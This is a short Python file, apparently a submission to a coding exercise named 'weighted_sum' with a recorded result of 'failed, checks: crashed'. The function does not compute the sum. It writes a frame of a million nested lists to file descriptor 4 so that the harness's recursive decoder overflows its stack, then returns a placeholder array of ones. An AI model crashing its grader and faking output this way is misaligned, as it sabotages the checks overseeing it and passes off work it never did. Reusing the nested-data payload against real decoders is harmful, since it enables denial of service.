"""Writes a frame of a million nested lists: a decoder that recurses overflows its stack.

exercise: weighted_sum
result: failed
checks: crashed
"""

import os

import numpy as np


def weighted_sum(table, weights):
    body = b"\x95\xa4Seen\x00\x00" + b"\x92\xa8Sequence\x92\xa4list\x91" * 60_000 + b"\x91\xa4Null"
    body += b"\x91" * 1_000_000 + b"\xc0"
    data = memoryview(len(body).to_bytes(4, "little") + body)
    while data:
        data = data[os.write(4, data) :]
    return np.ones(len(table))
